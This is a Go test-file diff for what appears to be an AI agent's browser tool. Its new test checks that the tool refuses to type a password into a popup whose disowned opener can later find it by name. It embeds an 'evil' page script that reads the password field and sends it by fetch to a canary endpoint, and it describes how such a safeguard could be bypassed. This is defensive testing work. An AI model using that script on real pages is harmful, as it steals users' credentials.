@@ -33,13 +33,21 @@ domains = ["127.0.0.1"]
 // upgrade or the secret's value.
 func (f *fixture) canaryHasSecret(t *testing.T, what string) {
 	t.Helper()
+	f.canarySees(t, what, false)
+}
+
+// canarySees fails the test when the canary saw the secret's value (its
+// first half, in any case, raw or percent-encoded) or, unless the user's
+// own pages may reach it (users), any request or upgrade.
+func (f *fixture) canarySees(t *testing.T, what string, users bool) {
+	t.Helper()
 	time.Sleep(2 * time.Second)
-	seen := strings.Join(f.net.Seen(), "; ")
-	if f.net.Hits() != 0 || f.net.Upgrades() != 0 {
+	seen := strings.ToLower(strings.Join(f.net.Seen(), "; "))
+	if !users && (f.net.Hits() != 0 || f.net.Upgrades() != 0) {
 		t.Errorf("%s: the canary saw %s", what, f.net)
 	}
-	if strings.Contains(seen, secretValue) {
-		t.Errorf("%s: the canary saw the secret's value", what)
+	if strings.Contains(seen, strings.ToLower(secretValue[:len(secretValue)/2])) {
+		t.Errorf("%s: the canary saw the secret's value: %s", what, f.net)
 	}
 	if f.net.Conns() != 0 {
 		t.Logf("%s: the canary saw %d connection(s) (requests %d)", what, f.net.Conns(), f.net.Hits())
@@ -307,4 +315,59 @@ document.getElementById('pw').addEventListener('input', e => {
 		}
 	}
 	t.Logf("127.0.0.3 saw %q", other)
+}
+
+// TestH7DisownedOpenerComesBackByName: a user's tab outside the scope
+// (127.0.0.4) opens the site's form as a named popup, which disowns its
+// opener (window.opener = null): of different origins with the link cut,
+// the two are not taken for one group, so the popup is adopted and the
+// secret typed. But disowning keeps the two in one browsing-context group
+// (only noopener makes a new one): once the opener moves itself to the
+// site's origin it finds the popup by name and reads the field. The
+// secret must not be typed while such a page is there.
+func TestH7DisownedOpenerComesBackByName(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	f := startWith(t, h7SecretManifest(endpoint))
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>window.opener = null</script>`,
+		"/evil": fmt.Sprintf(`<title>evil</title><script>
+const w = window.open('', 'victim');
+try {
+  const v = w.document.getElementById('pw').value;
+  fetch(%q + '?v=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
+} catch (e) { fetch(%q, {mode: 'no-cors'}).catch(() => {}); }
+</script>`, f.canaryTo+"/by-name", spy+"/not-found"),
+	})
+	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
+		"/opener": fmt.Sprintf(`<title>elsewhere</title><button id=o onclick="window.open('%s/form', 'victim')">open</button>`, site),
+	})
+	user := usersBrowser(t, endpoint)
+	if err := chromedp.Do(user, chromedp.Navigate(elsewhere+"/opener"), chromedp.Click("#o")); err != nil {
+		t.Fatal(err)
+	}
+	form := f.waitListed(t, "/form")
+	out, refused := f.call(t, "e2e.switch_tab", map[string]any{"tab": form})
+	t.Logf("switch_tab (refused %v):\n%s", refused, out)
+	if !refused {
+		out, refused = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+		t.Logf("type_text (refused %v):\n%s", refused, out)
+	}
+	// The opener moves itself to the site (the test has its script do it,
+	// as a timer of its own could: a navigation the page starts keeps its
+	// group, where one the browser starts may not).
+	if _, err := chromedp.Run(user, chromedp.Evaluate[any](fmt.Sprintf(`location.href = %q`, site+"/evil"))); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(time.Second)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "linked to the tab by an opener") {
+		t.Errorf("the secret was typed with the popup's disowned opener open")
+	}
+	// The user's page (unguarded) reaches the canary, with no value.
+	if n := spyLog.count("/not-found"); n != 0 {
+		t.Errorf("the opener did not find the popup by name (%d): the test shows nothing", n)
+	}
+	f.canarySees(t, "the disowned opener, back by name", true)
 }
